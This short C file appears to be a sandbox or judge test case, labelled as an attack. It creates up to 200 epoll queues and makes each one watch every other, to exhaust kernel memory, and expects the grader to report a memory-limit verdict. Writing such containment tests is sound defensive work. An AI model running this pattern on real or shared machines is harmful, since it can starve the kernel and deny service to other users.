// attack: takes the kernel's memory: event queues that watch each other
// expect: WA MLE

#include <stdio.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>

int main(void) {
    int queues[200], count = 0;
    while (count < 200 && (queues[count] = epoll_create1(0)) >= 0) count++;
    for (int i = 0; i < count; i++) {
        for (int j = 0; j < count; j++) {
            struct epoll_event event = {.events = EPOLLIN};
            if (i != j) epoll_ctl(queues[i], EPOLL_CTL_ADD, queues[j], &event);
        }
    }
    puts("contained");
}
